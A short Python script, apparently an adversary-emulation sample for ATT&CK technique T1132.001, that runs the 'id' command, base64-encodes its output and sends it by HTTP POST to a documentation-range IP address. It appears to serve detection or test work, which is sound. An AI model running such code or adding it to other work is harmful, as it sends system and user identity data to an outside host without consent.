#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# T1132.001 Standard Encoding: done in another way than in tests/data/techniques, or there not at all.
import base64, urllib.request, subprocess
b = base64.b64encode(subprocess.check_output(['id']))
urllib.request.urlopen('http://203.0.113.54/q', data=b, timeout=8)
